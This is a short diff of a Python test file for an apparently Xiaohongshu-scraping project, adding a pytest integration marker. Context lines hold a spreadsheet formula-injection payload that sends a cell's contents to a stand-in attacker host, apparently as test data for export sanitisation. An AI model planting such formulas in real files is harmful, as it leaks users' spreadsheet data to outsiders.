@@ -18,6 +18,9 @@ from tests.items import example_note
 from xhs_spider.store.batch import WriteBatch
 from xhs_spider.store.sqlite import SqliteNoteStore
 
+#: Every test here starts a process (a crawl, a command or a server).
+pytestmark = pytest.mark.integration
+
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 FOOD = "homefeed_food_v3"
 
